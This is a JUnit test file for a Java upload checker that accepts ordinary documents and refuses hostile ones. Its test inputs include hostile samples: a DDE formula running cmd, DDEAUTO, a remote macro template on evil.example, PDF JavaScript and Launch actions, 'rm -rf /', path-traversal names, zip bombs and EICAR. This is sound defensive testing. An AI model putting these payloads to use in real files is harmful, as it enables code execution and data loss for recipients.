package hk.praya.file;

import static hk.praya.file.Sample.EICAR;
import static hk.praya.file.Sample.bytes;
import static hk.praya.file.Sample.joined;
import static hk.praya.file.Sample.mail;
import static hk.praya.file.Sample.oldOffice;
import static hk.praya.file.Sample.pdf;
import static hk.praya.file.Sample.pdfFolded;
import static hk.praya.file.Sample.picture;
import static hk.praya.file.Sample.sheet;
import static hk.praya.file.Sample.word;
import static hk.praya.file.Sample.zip;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import hk.praya.file.FileChecking.Verdict;
import java.io.ByteArrayOutputStream;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Files that mean harm, each refused for its own reason; and those that people do send. */
class FileCheckingTest {
    private static void taken(FileKind kind, String name, byte[] content) {
        assertEquals(new Verdict.Taken(kind), FileChecking.check(FileBytes.of(content), name), name);
    }

    private static void refused(FileRefusal why, String name, byte[] content) {
        assertEquals(new Verdict.Refused(why, ""), FileChecking.check(FileBytes.of(content), name), name);
    }

    @Test void takesWhatPeopleSend() {
        taken(FileKind.PDF, "合約.pdf", pdf(""));
        taken(FileKind.PDF, "new.pdf", pdfFolded(bytes("1 0 <</Type /Page>>"), "/FlateDecode"));
        taken(FileKind.PNG, "設定畫面.png", picture("png"));
        taken(FileKind.JPEG, "IMG_0001.JPG", picture("jpg"));
        taken(FileKind.DOCX, "a.docx", word());
        taken(FileKind.XLSX, "a.xlsx", sheet(Map.of()));
        taken(FileKind.PPTX, "a.pptx", zip(Map.of("ppt/presentation.xml", bytes("<p/>"))));
        taken(FileKind.TEXT, "名單.csv", "姓名,電話\n陳大文,-\n=SUM(A1:A2),1\n".getBytes(StandardCharsets.UTF_8));
        taken(FileKind.TEXT, "big5.txt", "個人資料".getBytes(java.nio.charset.Charset.forName("Big5-HKSCS")));
        taken(FileKind.TEXT, "unicode.txt", joined(new byte[] {(byte) 0xff, (byte) 0xfe}, "資料".getBytes(StandardCharsets.UTF_16LE)));
        taken(FileKind.EMAIL, "reply.eml", mail("terms.pdf", pdf("")));
        taken(FileKind.EMAIL, "signature.eml", mail("logo.gif", bytes("GIF89a....")));
        taken(FileKind.DOCX, "chart.docx", word(Map.of("word/embeddings/Workbook1.xlsx", sheet(Map.of()))));
        taken(FileKind.DOCX, "from-a-template.docx", word(Map.of("word/_rels/settings.xml.rels", bytes("<Relationships><Relationship Type=\"x/attachedTemplate\" Target=\"file:///C:\\Users\\a\\Firm.dotx\" TargetMode=\"External\"/></Relationships>"))));
        taken(FileKind.DOCX, "with-a-link.docx", word(Map.of("word/_rels/document.xml.rels", bytes("<Relationship Type=\"x/hyperlink\" Target=\"https://www.pcpd.org.hk\" TargetMode=\"External\"/>"))));
    }

    @Test void takesWhatProgramsReallyWrite() throws Exception {
        var pdf = new ByteArrayOutputStream();
        try (var document = new org.apache.pdfbox.pdmodel.PDDocument()) {
            for (var page = 0; page < 300; page++) document.addPage(new org.apache.pdfbox.pdmodel.PDPage());
            document.save(pdf);
        }
        assertTrue(new String(pdf.toByteArray(), StandardCharsets.ISO_8859_1).contains("/ObjStm"), "with object streams");
        taken(FileKind.PDF, "pages.pdf", pdf.toByteArray());
        var workbook = new ByteArrayOutputStream();
        try (var book = new org.dhatim.fastexcel.Workbook(workbook, "Praya", "1.0")) {
            var sheet = book.newWorksheet("名單");
            for (var row = 0; row < 5_000; row++) sheet.value(row, 0, "陳大文 " + row);
        }
        taken(FileKind.XLSX, "名單.xlsx", workbook.toByteArray());
    }

    @Test void aPhonesPictureMayCarryASecondOneBehindIt() {
        taken(FileKind.JPEG, "ultra-hdr.jpg", joined(picture("jpg"), new byte[16], picture("jpg")));
        taken(FileKind.JPEG, "galaxy.jpg", joined(picture("jpg"), bytes("Image_UTC_Data1760000000SEFH....SEFT")));
    }

    @Test void aBombStaysFolded() {
        refused(FileRefusal.BOMB, "a.docx", Sample.bomb(60_000_000));
        refused(FileRefusal.BOMB, "lying.docx", Sample.lyingBomb(60_000_000));
        refused(FileRefusal.BOMB, "overlapping.docx", Sample.overlapping(100));
        refused(FileRefusal.BOMB, "entries.docx", Sample.overlapping(5_000));
        refused(FileRefusal.BOMB, "entities.docx", word(Map.of("word/comments.xml", bytes("<!DOCTYPE a [<!ENTITY b \"bb\">]><a/>"))));
        refused(FileRefusal.BOMB, "objects.pdf", pdfFolded(new byte[80_000_000], "/FlateDecode"));
        refused(FileRefusal.ARCHIVE, "nested.docx", word(Map.of("word/inner.zip", zip(Map.of("a", bytes("a"))))));
        assertEquals(new Verdict.Refused(FileRefusal.ARCHIVE, ""), FileChecking.check(FileBytes.of(word(Map.of("word/embeddings/a.docx", word(Map.of("word/embeddings/b.docx", word()))))), "twice.docx"));
        refused(FileRefusal.BOMB, "inner.docx", word(Map.of("word/embeddings/a.docx", Sample.bomb(60_000_000))));
    }

    @Test void aBombOfAGigabyteCostsLittleMemory() {
        var bomb = Sample.bomb(1_000_000_000);
        var threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        refused(FileRefusal.BOMB, "warm.docx", bomb);
        var before = threads.getCurrentThreadAllocatedBytes();
        refused(FileRefusal.BOMB, "a.docx", bomb);
        var allocated = threads.getCurrentThreadAllocatedBytes() - before;
        assertTrue(allocated < 900_000_000L, "All that was ever allocated, a window at a time: " + allocated);
    }

    @Test void aFileIsOneFile() {
        refused(FileRefusal.POLYGLOT, "zip.pdf", joined(pdf(""), zip(Map.of("a.exe", bytes("MZ")))));
        refused(FileRefusal.POLYGLOT, "page.pdf", bytes("%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF\n"));
        refused(FileRefusal.POLYGLOT, "page-after.pdf", joined(pdf(""), bytes("<html><script>alert(1)</script>")));
        refused(FileRefusal.BYTES_AFTER_END, "after.pdf", joined(pdf(""), bytes("something else")));
        refused(FileRefusal.POLYGLOT, "zip.jpg", joined(picture("jpg"), zip(Map.of("a", bytes("a")))));
        refused(FileRefusal.BYTES_AFTER_END, "after.jpg", joined(picture("jpg"), bytes("%PDF-1.7 anything")));
        refused(FileRefusal.POLYGLOT, "zip.png", joined(picture("png"), zip(Map.of("a", bytes("a")))));
        refused(FileRefusal.BYTES_AFTER_END, "after.png", joined(picture("png"), bytes("x")));
        refused(FileRefusal.BYTES_AFTER_END, "after.docx", joined(word(), bytes("x")));
        refused(FileRefusal.POLYGLOT, "two.docx", joined(word(), word()));
        refused(FileRefusal.DAMAGED, "cut.png", java.util.Arrays.copyOf(picture("png"), 60));
        refused(FileRefusal.DAMAGED, "cut.pdf", bytes("%PDF-1.7\n1 0 obj"));
    }

    @Test void aDrawingAPageAndAScriptAreNoEvidence() {
        refused(FileRefusal.SVG, "logo.svg", bytes("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"));
        refused(FileRefusal.SVG, "logo.png", bytes("<svg onload=\"alert(1)\"/>"));
        refused(FileRefusal.PAGE, "page.txt", bytes("<!DOCTYPE html><html></html>"));
        refused(FileRefusal.SCRIPT, "run.txt", bytes("#!/bin/sh\nrm -rf /"));
        refused(FileRefusal.PROGRAM, "invoice.pdf", bytes("MZ\u0000\u0000program"));
        refused(FileRefusal.ARCHIVE, "a.zip", zip(Map.of("a.txt", bytes("a"))));
        refused(FileRefusal.ARCHIVE, "a.rar", bytes("Rar!\u001a\u0007"));
        refused(FileRefusal.HEIC, "IMG_0001.HEIC", bytes("\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000"));
    }

    @Test void macrosAndLinksToElsewhereAreNotTaken() {
        refused(FileRefusal.MACRO, "a.docm", word(Map.of("word/vbaProject.bin", bytes("x"))));
        refused(FileRefusal.MACRO, "a.docx", word(Map.of("word/vbaProject.bin", bytes("x"))));
        refused(FileRefusal.MACRO, "a.xlsx", sheet(Map.of("xl/macrosheets/sheet1.xml", bytes("<x/>"))));
        refused(FileRefusal.MACRO, "types.xlsm", zip(Map.of("xl/workbook.xml", bytes("<x/>"), "[Content_Types].xml", bytes("<Override ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"))));
        refused(FileRefusal.MACRO, "old.doc", oldOffice("WordDocument", "Macros", "_VBA_PROJECT"));
        refused(FileRefusal.MACRO, "old.xls", oldOffice("Workbook", "_VBA_PROJECT_CUR"));
        refused(FileRefusal.OLD_OFFICE, "plain.doc", oldOffice("WordDocument"));
        refused(FileRefusal.DDE, "dde.docx", word(Map.of("word/footer1.xml", bytes("<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"))));
        refused(FileRefusal.DDE, "dde.xlsx", sheet(Map.of("xl/externalLinks/externalLink1.xml", bytes("<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"))));
        refused(FileRefusal.DDE, "dde.csv", bytes("a,b\n=cmd|'/c calc'!A1,2\n"));
        refused(FileRefusal.EXTERNAL, "template.docx", word(Map.of("word/_rels/settings.xml.rels", bytes("<Relationship Type=\"x/attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/>"))));
        refused(FileRefusal.EXTERNAL, "share.docx", word(Map.of("word/_rels/document.xml.rels", bytes("<Relationship Type=\"x/image\" Target=\"\\\\evil\\share\\a.png\" TargetMode=\"External\"/>"))));
        refused(FileRefusal.OBJECT, "object.docx", word(Map.of("word/embeddings/oleObject1.bin", bytes("x"))));
        refused(FileRefusal.PROGRAM, "program.docx", word(Map.of("word/media/image1.png", bytes("MZ...."))));
        refused(FileRefusal.NAME_PATH, "slip.docx", word(Map.of("../../evil.sh", bytes("x"))));
    }

    @Test void aPdfOnlyShows() {
        refused(FileRefusal.PDF_SCRIPT, "script.pdf", pdf("4 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj"));
        refused(FileRefusal.PDF_SCRIPT, "escaped.pdf", pdf("4 0 obj <</S /J#61vaScr#69pt /JS (x)>> endobj"));
        refused(FileRefusal.PDF_SCRIPT, "folded.pdf", pdfFolded(bytes("4 0 <</S /JavaScript /JS (x)>>"), "/FlateDecode"));
        refused(FileRefusal.PDF_LAUNCH, "launch.pdf", pdf("4 0 obj <</S /Launch /F (cmd.exe)>> endobj"));
        refused(FileRefusal.PDF_ATTACHMENT, "attached.pdf", pdf("4 0 obj <</Names <</EmbeddedFiles 5 0 R>>>> endobj"));
        refused(FileRefusal.ENCRYPTED, "locked.pdf", pdf("4 0 obj <<>> endobj trailer <</Encrypt 4 0 R>>"));
        refused(FileRefusal.DAMAGED, "odd-filter.pdf", pdfFolded(bytes("4 0 <<>>"), "[/ASCIIHexDecode /FlateDecode]"));
        refused(FileRefusal.DAMAGED, "hidden-filter.pdf", pdfFolded(bytes("4 0 <<>>"), "9 0 R"));
    }

    @Test void aPictureTooLargeToUnfoldIsKnownByItsHeader() {
        refused(FileRefusal.PIXELS, "flood.png", Sample.flood("png", 60_000, 60_000));
        refused(FileRefusal.PIXELS, "flood.jpg", Sample.flood("jpg", 65_500, 65_500));
        refused(FileRefusal.PIXELS, "wide.png", Sample.flood("png", 1, 100_000));
        taken(FileKind.PNG, "long-chat.png", Sample.flood("png", 1_080, 30_000));
    }

    @Test void theTestVirusIsFoundWhereverItIs() {
        refused(FileRefusal.VIRUS, "eicar.txt", bytes(EICAR));
        refused(FileRefusal.VIRUS, "eicar.docx", word(Map.of("word/media/eicar.txt", bytes(EICAR))));
        refused(FileRefusal.VIRUS, "across.txt", bytes("x".repeat(65_500) + EICAR));
        assertEquals(new Verdict.Refused(FileRefusal.ATTACHMENT, "eicar.com"), FileChecking.check(FileBytes.of(mail("eicar.com", bytes(EICAR))), "a.eml"));
        assertEquals(new Verdict.Refused(FileRefusal.ATTACHMENT, "a.docm"), FileChecking.check(FileBytes.of(mail("a.docm", word(Map.of("word/vbaProject.bin", bytes("x"))))), "a.eml"));
    }

    @Test void aNameSteersNeitherAPathNorAnEye() {
        refused(FileRefusal.NAME_PATH, "../../etc/passwd", pdf(""));
        refused(FileRefusal.NAME_PATH, "/etc/passwd", pdf(""));
        refused(FileRefusal.NAME_PATH, "C:\\Windows\\a.pdf", pdf(""));
        refused(FileRefusal.NAME_PATH, "..", pdf(""));
        refused(FileRefusal.NAME_CHARACTERS, "a\u0000.pdf", pdf(""));
        refused(FileRefusal.NAME_DIRECTION, "invoice\u202efdp.exe", pdf(""));
        refused(FileRefusal.NAME_LONG, "長".repeat(250) + ".pdf", pdf(""));
        refused(FileRefusal.NAME_RESERVED, "CON.pdf", pdf(""));
        refused(FileRefusal.NAME_RESERVED, "com1", pdf(""));
        refused(FileRefusal.NAME_MISLEADS, "合約.exe", pdf(""));
        refused(FileRefusal.NAME_MISLEADS, "text.pdf", bytes("only text"));
        taken(FileKind.PDF, "合約 (最終版) v2.1.pdf", pdf(""));
    }

    /** Whatever is done to a file, the check ends, with a verdict. */
    @Test void nothingBreaksTheCheck() {
        var random = new Random(20261127);
        for (var whole : java.util.List.of(word(), pdf(""), pdfFolded(bytes("1 0 <<>>"), "/FlateDecode"), picture("png"), picture("jpg"), mail("a.pdf", pdf("")), oldOffice("x"))) {
            for (var i = 0; i < 300; i++) {
                var broken = whole.clone();
                for (var change = random.nextInt(4); change >= 0; change--) broken[random.nextInt(broken.length)] = (byte) random.nextInt(256);
                FileChecking.check(FileBytes.of(java.util.Arrays.copyOf(broken, 1 + random.nextInt(broken.length))), "a.eml");
                FileChecking.check(FileBytes.of(broken), "a.eml");
            }
        }
    }
}
